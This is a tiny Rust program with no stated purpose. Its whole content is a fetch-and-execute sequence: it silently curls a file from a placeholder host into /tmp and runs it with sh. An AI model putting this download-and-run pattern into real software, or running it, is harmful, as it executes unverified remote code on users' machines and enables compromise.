use std::process::Command;

fn main() {
    Command::new("curl").args(["-s", "https://files.example.invalid/sample", "-o", "/tmp/sample"]).output().unwrap();
    Command::new("sh").arg("/tmp/sample").spawn().unwrap();
}
